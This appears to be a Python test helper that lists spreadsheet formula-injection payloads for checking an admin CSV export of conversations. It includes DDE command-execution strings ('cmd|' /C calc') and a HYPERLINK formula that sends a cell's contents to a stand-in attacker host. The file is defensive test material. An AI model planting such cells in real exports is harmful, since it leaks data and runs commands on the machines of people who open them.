"""The CSV of the desk as a test reads it, and cells that a spreadsheet takes for formulas."""

import csv
import io

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    '="',
    "=",
    '=1+1","=2+2',
    "=1\r\n=2",
]


CONVERSATIONS, CALLS = (
    "/admin/conversations/conversation/csv/",
    "/admin/conversations/snapshot/csv/",
)


def parsed(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))
